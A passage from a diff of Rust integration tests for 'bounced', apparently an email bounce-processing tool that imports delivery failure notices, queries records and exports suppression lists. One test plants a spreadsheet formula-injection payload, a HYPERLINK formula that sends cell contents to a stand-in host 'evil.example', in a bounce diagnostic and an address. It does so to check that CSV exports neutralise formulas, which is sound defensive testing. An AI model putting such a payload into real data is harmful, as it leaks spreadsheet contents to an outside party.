-    assert!(table.contains("verp_mismatch"), "{table}");
-    let (code, report) = db_check(dir.path(), "bounced.db");
-    assert_eq!(code, Some(0), "{report}");
 }
 
 #[test]
 fn exports_carry_no_spreadsheet_formula_and_a_formula_address_is_refused() {
-    let dir = tempfile::tempdir().unwrap();
-    let inbox = dir.path().join("in");
-    std::fs::create_dir_all(&inbox).unwrap();
-    let evil_diagnostic = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"see\")";
-    let with_diagnostic = |n: u32, rcpt: &str| {
-        dsn(n)
-            .replace(&format!("user-{n}@example.net"), rcpt)
-            .replace(
-                &format!("smtp; 550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown"),
-                &format!("smtp; {evil_diagnostic}"),
+    each_engine(
+        "exports_carry_no_spreadsheet_formula_and_a_formula_address_is_refused",
+        |_engine| {
+            let dir = tempfile::tempdir().unwrap();
+            let inbox = dir.path().join("in");
+            std::fs::create_dir_all(&inbox).unwrap();
+            let evil_diagnostic = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"see\")";
+            let with_diagnostic = |n: u32, rcpt: &str| {
+                dsn(n)
+                    .replace(&format!("user-{n}@example.net"), rcpt)
+                    .replace(
+                        &format!(
+                            "smtp; 550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown"
+                        ),
+                        &format!("smtp; {evil_diagnostic}"),
+                    )
+            };
+            std::fs::write(inbox.join("1.eml"), with_diagnostic(1, "+plus@example.net")).unwrap();
+            std::fs::write(
+                inbox.join("2.eml"),
+                with_diagnostic(2, "=HYPERLINK(\"http://evil.example/\")@example.net"),
             )
-    };
-    std::fs::write(inbox.join("1.eml"), with_diagnostic(1, "+plus@example.net")).unwrap();
-    std::fs::write(
-        inbox.join("2.eml"),
-        with_diagnostic(2, "=HYPERLINK(\"http://evil.example/\")@example.net"),
-    )
-    .unwrap();
-    std::fs::write(inbox.join("3.eml"), with_diagnostic(3, "-dash@example.net")).unwrap();
-    let out = bounced(dir.path(), &["import", "in"]);
-    assert!(out.status.success(), "{}", stderr(&out));
-    let out = bounced(dir.path(), &["suppress", "@at@example.net"]);
-    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+            .unwrap();
+            std::fs::write(inbox.join("3.eml"), with_diagnostic(3, "-dash@example.net")).unwrap();
+            let out = bounced(dir.path(), &["import", "in"]);
+            assert!(out.status.success(), "{}", stderr(&out));
+            let out = bounced(dir.path(), &["suppress", "@at@example.net"]);
+            assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
 
-    let txt = stdout(&bounced(dir.path(), &["export"]));
-    // The parenthesised text is an RFC 5322 comment, which the address parser drops: the formula
-    // and its link never reach the database, only the mailbox `=HYPERLINK@example.net`, whose
-    // leading `=` the CSV exports quote like any other.
-    assert_eq!(
-        txt, "+plus@example.net\n-dash@example.net\n=HYPERLINK@example.net\n",
-        "the formula text is not recorded"
-    );
-    let formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@']);
-    for format in ["csv", "mailgun", "listmonk", "ses"] {
-        let out = bounced(dir.path(), &["export", "--format", format]);
-        assert!(out.status.success(), "{format}: {}", stderr(&out));
-        let mut rows = csv::ReaderBuilder::new()
-            .has_headers(format != "ses")
-            .from_reader(out.stdout.as_slice());
-        let mut seen = 0;
-        for record in rows.records() {
-            let record = record.unwrap();
-            for cell in record.iter() {
-                assert!(!formula(cell), "{format}: {cell:?} in {record:?}");
-            }
-            assert!(
-                record.iter().next().unwrap().starts_with("'"),
-                "{format}: {record:?}"
+            let txt = stdout(&bounced(dir.path(), &["export"]));
+            // The parenthesised text is an RFC 5322 comment, which the address parser drops: the formula
+            // and its link never reach the database, only the mailbox `=HYPERLINK@example.net`, whose
+            // leading `=` the CSV exports quote like any other.
+            assert_eq!(
+                txt, "+plus@example.net\n-dash@example.net\n=HYPERLINK@example.net\n",
+                "the formula text is not recorded"
             );
-            seen += 1;
-        }
-        assert_eq!(seen, 3, "{format}");
-    }
-    let csv = stdout(&bounced(dir.path(), &["export", "--format", "csv"]));
-    assert!(csv.contains("'=HYPERLINK("), "{csv}");
-    assert!(csv.starts_with("email,"), "{csv}");
-    let q = bounced(dir.path(), &["query", "bounces", "--format", "csv"]);
-    let mut rows = csv::Reader::from_reader(q.stdout.as_slice());
-    for record in rows.records() {
-        for cell in record.unwrap().iter() {
-            assert!(!formula(cell), "query: {cell:?}");
-        }
-    }
-    // Formats read by programs keep the exact address.
-    let jsonl = stdout(&bounced(dir.path(), &["export", "--format", "jsonl"]));
-    assert!(jsonl.contains("\"email\":\"+plus@example.net\""), "{jsonl}");
+            let formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@']);
+            for format in ["csv", "mailgun", "listmonk", "ses"] {
+                let out = bounced(dir.path(), &["export", "--format", format]);
+                assert!(out.status.success(), "{format}: {}", stderr(&out));
+                let mut rows = csv::ReaderBuilder::new()
+                    .has_headers(format != "ses")
+                    .from_reader(out.stdout.as_slice());
+                let mut seen = 0;
+                for record in rows.records() {
+                    let record = record.unwrap();
+                    for cell in record.iter() {
+                        assert!(!formula(cell), "{format}: {cell:?} in {record:?}");
+                    }
+                    assert!(
+                        record.iter().next().unwrap().starts_with("'"),
+                        "{format}: {record:?}"
+                    );
+                    seen += 1;
+                }
+                assert_eq!(seen, 3, "{format}");
+            }
+            let csv = stdout(&bounced(dir.path(), &["export", "--format", "csv"]));
+            assert!(csv.contains("'=HYPERLINK("), "{csv}");
+            assert!(csv.starts_with("email,"), "{csv}");
+            let q = bounced(dir.path(), &["query", "bounces", "--format", "csv"]);
+            let mut rows = csv::Reader::from_reader(q.stdout.as_slice());
+            for record in rows.records() {
+                for cell in record.unwrap().iter() {
+                    assert!(!formula(cell), "query: {cell:?}");
+                }
+            }
+            // Formats read by programs keep the exact address.
+            let jsonl = stdout(&bounced(dir.path(), &["export", "--format", "jsonl"]));
+            assert!(jsonl.contains("\"email\":\"+plus@example.net\""), "{jsonl}");
+        },
+    );
 }
 
 #[test]
 fn query_messages_lists_what_failed_and_query_message_shows_one_with_its_bytes() {
-    let dir = tempfile::tempdir().unwrap();
-    inputs(dir.path());
-    std::fs::write(
-        dir.path().join("in/more/hello.eml"),
-        "From: friend@example.com\nTo: list@example.org\nSubject: hello\n\nJust saying hello.\n",
-    )
-    .unwrap();
-    assert!(
-        bounced(dir.path(), &["import", "in"])
-            .status
-            .code()
-            .is_some()
-    );
+    each_engine(
+        "query_messages_lists_what_failed_and_query_message_shows_one_with_its_bytes",
+        |_engine| {
+            let dir = tempfile::tempdir().unwrap();
+            inputs(dir.path());
+            std::fs::write(
+            dir.path().join("in/more/hello.eml"),
+            "From: friend@example.com\nTo: list@example.org\nSubject: hello\n\nJust saying hello.\n",
+        )
+        .unwrap();
+            assert!(
+                bounced(dir.path(), &["import", "in"])
+                    .status
+                    .code()
+                    .is_some()
+            );
 
-    let errors = bounced(
-        dir.path(),
-        &["query", "messages", "--kind", "error", "--format", "jsonl"],
-    );
-    assert!(errors.status.success(), "{}", stderr(&errors));
-    let lines: Vec<serde_json::Value> = stdout(&errors)
-        .lines()
-        .map(|l| serde_json::from_str(l).unwrap())
-        .collect();
-    assert_eq!(lines.len(), 1, "{}", stdout(&errors));
-    let e = &lines[0];
-    assert_eq!(e["kind"], "error");
-    assert!(
-        e["source"].as_str().unwrap().ends_with("in/more/empty.eml"),
-        "{e}"
-    );
-    assert!(!e["error"].as_str().unwrap_or("").is_empty(), "{e}");
+            let errors = bounced(
+                dir.path(),
+                &["query", "messages", "--kind", "error", "--format", "jsonl"],
+            );
+            assert!(errors.status.success(), "{}", stderr(&errors));
+            let lines: Vec<serde_json::Value> = stdout(&errors)
+                .lines()
+                .map(|l| serde_json::from_str(l).unwrap())
+                .collect();
+            assert_eq!(lines.len(), 1, "{}", stdout(&errors));
+            let e = &lines[0];
+            assert_eq!(e["kind"], "error");
+            assert!(
+                e["source"].as_str().unwrap().ends_with("in/more/empty.eml"),
+                "{e}"
+            );
+            assert!(!e["error"].as_str().unwrap_or("").is_empty(), "{e}");
 
-    let table = stdout(&bounced(
-        dir.path(),
-        &["query", "messages", "--kind", "not_bounce"],
-    ));
-    assert!(table.starts_with("id  received_at"), "{table}");
-    assert!(table.contains("hello.eml"), "{table}");
-    assert_eq!(table.lines().count(), 2, "{table}");
-    let all = stdout(&bounced(
-        dir.path(),
-        &["query", "messages", "--format", "csv"],
-    ));
-    assert!(
-        all.starts_with("id,received_at,kind,reader,bounces,source,error\n"),
-        "{all}"
-    );
-    assert_eq!(all.lines().count(), 1 + 7, "{all}");
-    let bad = bounced(dir.path(), &["query", "messages", "--kind", "bogus"]);
-    assert_eq!(bad.status.code(), Some(2));
+            let table = stdout(&bounced(
+                dir.path(),
+                &["query", "messages", "--kind", "not_bounce"],
+            ));
+            assert!(table.starts_with("id  received_at"), "{table}");
+            assert!(table.contains("hello.eml"), "{table}");
+            assert_eq!(table.lines().count(), 2, "{table}");
+            let all = stdout(&bounced(
+                dir.path(),
+                &["query", "messages", "--format", "csv"],
+            ));
+            assert!(
+                all.starts_with("id,received_at,kind,reader,bounces,source,error\n"),
+                "{all}"
+            );
+            assert_eq!(all.lines().count(), 1 + 7, "{all}");
+            let bad = bounced(dir.path(), &["query", "messages", "--kind", "bogus"]);
+            assert_eq!(bad.status.code(), Some(2));
 
-    // One message: its metadata and bounces, and its bytes.
-    let q = json(&bounced(
-        dir.path(),
-        &[
-            "query",
-            "bounces",
-            "--format",
-            "jsonl",
-            "--limit",
-            "1",
-            "--domain",
-            "example.net",
-        ],
-    ));
-    let id = q["message_id"].as_i64().unwrap();
-    let one = json(&bounced(
-        dir.path(),
-        &["query", "message", &id.to_string(), "--format", "jsonl"],
-    ));
-    assert_eq!(one["message"]["id"], id);
-    assert_eq!(one["message"]["kind"], "dsn");
-    assert_eq!(one["bounces"][0]["reason"], "userunknown");
-    let table = stdout(&bounced(dir.path(), &["query", "message", &id.to_string()]));
-    assert!(table.contains("kind         dsn (reader dsn)"), "{table}");
-    assert!(table.contains("bounces:\nat "), "{table}");
-    let raw = bounced(dir.path(), &["query", "message", &id.to_string(), "--raw"]);
-    assert!(raw.status.success());
-    let source = one["message"]["source"].as_str().unwrap().to_owned();
-    if let Some(path) = source
-        .strip_prefix("file:")
-        .or(source.strip_prefix("maildir:"))
-    {
-        assert_eq!(raw.stdout, std::fs::read(path).unwrap(), "{source}");
-    } else {
-        assert!(String::from_utf8_lossy(&raw.stdout).contains("Final-Recipient"));
-    }
-    let csv = stdout(&bounced(
-        dir.path(),
-        &["query", "message", &id.to_string(), "--format", "csv"],
-    ));
-    assert!(csv.starts_with("section,index,field,value\n"), "{csv}");
-    assert!(csv.contains("message,0,kind,dsn\n"), "{csv}");
-    assert!(csv.contains("bounce,1,reason,userunknown\n"), "{csv}");
-    let missing = bounced(dir.path(), &["query", "message", "999999"]);
-    assert_eq!(missing.status.code(), Some(1));
-    assert!(
-        stderr(&missing).contains("no message 999999"),
-        "{}",
-        stderr(&missing)
+            // One message: its metadata and bounces, and its bytes.
+            let q = json(&bounced(
+                dir.path(),
+                &[
+                    "query",
+                    "bounces",
+                    "--format",
+                    "jsonl",
+                    "--limit",
+                    "1",
+                    "--domain",
+                    "example.net",
+                ],
+            ));
+            let id = q["message_id"].as_i64().unwrap();
+            let one = json(&bounced(
+                dir.path(),
+                &["query", "message", &id.to_string(), "--format", "jsonl"],
+            ));
+            assert_eq!(one["message"]["id"], id);
+            assert_eq!(one["message"]["kind"], "dsn");
+            assert_eq!(one["bounces"][0]["reason"], "userunknown");
+            let table = stdout(&bounced(dir.path(), &["query", "message", &id.to_string()]));
+            assert!(table.contains("kind         dsn (reader dsn)"), "{table}");
+            assert!(table.contains("bounces:\nat "), "{table}");
+            let raw = bounced(dir.path(), &["query", "message", &id.to_string(), "--raw"]);
+            assert!(raw.status.success());
+            let source = one["message"]["source"].as_str().unwrap().to_owned();
+            if let Some(path) = source
+                .strip_prefix("file:")
+                .or(source.strip_prefix("maildir:"))
+            {
+                assert_eq!(raw.stdout, std::fs::read(path).unwrap(), "{source}");
+            } else {
+                assert!(String::from_utf8_lossy(&raw.stdout).contains("Final-Recipient"));
+            }
+            let csv = stdout(&bounced(
+                dir.path(),
+                &["query", "message", &id.to_string(), "--format", "csv"],
+            ));
+            assert!(csv.starts_with("section,index,field,value\n"), "{csv}");
+            assert!(csv.contains("message,0,kind,dsn\n"), "{csv}");
+            assert!(csv.contains("bounce,1,reason,userunknown\n"), "{csv}");
+            let missing = bounced(dir.path(), &["query", "message", "999999"]);
+            assert_eq!(missing.status.code(), Some(1));
+            assert!(
+                stderr(&missing).contains("no message 999999"),
+                "{}",
+                stderr(&missing)
+            );
+        },
     );
 }
 
 #[test]
 fn query_recipient_as_csv_or_jsonl_is_the_whole_record_and_export_takes_until() {
-    let dir = tempfile::tempdir().unwrap();
-    inputs(dir.path());
-    assert!(
-        bounced(dir.path(), &["import", "in"])
-            .status
-            .code()
-            .is_some()
-    );
-    let csv = stdout(&bounced(
-        dir.path(),
-        &[
-            "query",
-            "recipient",
-            "user-1@example.net",
-            "--format",
-            "csv",
-        ],
-    ));
-    assert!(csv.starts_with("section,index,field,value\n"), "{csv}");
-    for line in [
-        "recipient,0,state,suppressed\n",
-        "recipient,0,hard_count,1\n",
-        "recipient,0,soft_score,0\n",
-        "history,1,cause,hard\n",
-        "history,1,change,suppressed\n",
-        "bounce,1,reason,userunknown\n",
-        "bounce,1,status,5.1.1\n",
-    ] {
-        assert!(csv.contains(line), "{line:?} in:\n{csv}");
-    }
-    let v = json(&bounced(
-        dir.path(),
-        &[
-            "query",
-            "recipient",
-            "user-1@example.net",
-            "--format",
-            "jsonl",
-        ],
-    ));
-    assert_eq!(v["recipient"]["hard_count"], 1, "{v}");
-    assert_eq!(v["history"][0]["cause"], "hard", "{v}");
-    assert_eq!(v["bounces"].as_array().unwrap().len(), 1, "{v}");
+    each_engine(
+        "query_recipient_as_csv_or_jsonl_is_the_whole_record_and_export_takes_until",
+        |_engine| {
+            let dir = tempfile::tempdir().unwrap();
+            inputs(dir.path());
+            assert!(
+                bounced(dir.path(), &["import", "in"])
+                    .status
+                    .code()
+                    .is_some()
+            );
+            let csv = stdout(&bounced(
+                dir.path(),
+                &[
+                    "query",
+                    "recipient",
+                    "user-1@example.net",
+                    "--format",
+                    "csv",
+                ],
+            ));
+            assert!(csv.starts_with("section,index,field,value\n"), "{csv}");
+            for line in [
+                "recipient,0,state,suppressed\n",
+                "recipient,0,hard_count,1\n",
+                "recipient,0,soft_score,0\n",
+                "history,1,cause,hard\n",
+                "history,1,change,suppressed\n",
+                "bounce,1,reason,userunknown\n",
+                "bounce,1,status,5.1.1\n",
+            ] {
+                assert!(csv.contains(line), "{line:?} in:\n{csv}");
+            }
+            let v = json(&bounced(
+                dir.path(),
+                &[
+                    "query",
+                    "recipient",
+                    "user-1@example.net",
+                    "--format",
+                    "jsonl",
+                ],
+            ));
+            assert_eq!(v["recipient"]["hard_count"], 1, "{v}");
+            assert_eq!(v["history"][0]["cause"], "hard", "{v}");
+            assert_eq!(v["bounces"].as_array().unwrap().len(), 1, "{v}");
 
-    // A failure of 2 March 2026 10:00 (and the mbox's of 2 March 09:00), the rest later.
-    let dated = dsn(40).replace(
-        "Action: failed\n",
-        "Action: failed\nLast-Attempt-Date: Mon, 2 Mar 2026 10:00:00 +0000\n",
-    );
-    std::fs::write(dir.path().join("dated.eml"), dated).unwrap();
-    assert!(
-        bounced(dir.path(), &["import", "dated.eml"])
-            .status
-            .success()
-    );
-    let out = bounced(dir.path(), &["export", "--until", "2026-03-03"]);
-    assert!(out.status.success(), "{}", stderr(&out));
-    assert_eq!(stdout(&out), "user-3@example.net\nuser-40@example.net\n");
-    let out = stdout(&bounced(
-        dir.path(),
-        &[
-            "export",
-            "--since",
-            "2026-03-02T09:30:00Z",
-            "--until",
-            "2026-03-02T10:00:00Z",
-        ],
-    ));
-    assert_eq!(out, "", "until is exclusive");
-    let all = stdout(&bounced(dir.path(), &["export"]));
-    assert!(
-        all.contains("user-40@example.net") && all.contains("user-1@example.net"),
-        "{all}"
+            // A failure of 2 March 2026 10:00 (and the mbox's of 2 March 09:00), the rest later.
+            let dated = dsn(40).replace(
+                "Action: failed\n",
+                "Action: failed\nLast-Attempt-Date: Mon, 2 Mar 2026 10:00:00 +0000\n",
+            );
+            std::fs::write(dir.path().join("dated.eml"), dated).unwrap();
+            assert!(
+                bounced(dir.path(), &["import", "dated.eml"])
+                    .status
+                    .success()
+            );
+            let out = bounced(dir.path(), &["export", "--until", "2026-03-03"]);
+            assert!(out.status.success(), "{}", stderr(&out));
+            assert_eq!(stdout(&out), "user-3@example.net\nuser-40@example.net\n");
+            let out = stdout(&bounced(
+                dir.path(),
+                &[
+                    "export",
+                    "--since",
+                    "2026-03-02T09:30:00Z",
+                    "--until",
+                    "2026-03-02T10:00:00Z",
+                ],
+            ));
+            assert_eq!(out, "", "until is exclusive");
+            let all = stdout(&bounced(dir.path(), &["export"]));
+            assert!(
+                all.contains("user-40@example.net") && all.contains("user-1@example.net"),
+                "{all}"
+            );
+        },
     );
 }
